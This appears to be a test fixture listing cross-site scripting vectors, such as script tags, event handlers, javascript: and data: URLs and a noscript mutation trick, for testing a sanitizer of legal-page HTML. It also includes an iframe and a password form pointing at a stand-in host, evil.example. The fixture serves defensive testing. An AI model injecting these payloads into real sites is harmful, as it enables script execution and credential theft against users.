// A legal text that tries every way we could think of to run script or load something.

/** Every way to run script or load something from "legal text" that we could think of. */
export const MALICIOUS_LEGAL_HTML = [
  '<h2 onclick="alert(1)">Safe heading</h2>',
  '<script>window.__pwned = true</script>',
  '<img src="x" onerror="window.__pwned = true">',
  '<p>Read <a href="javascript:window.__pwned=true">this</a> and <a href="https://ok.example/doc">that</a>.</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>window.__pwned = true</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>body { display: none }</style>',
  '<p style="background:url(javascript:alert(1))">Styled</p>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<details open ontoggle="window.__pwned = true"><summary>x</summary></details>',
  '<a href="mailto:privacy@casaserena.example">mail us</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
].join('\n');
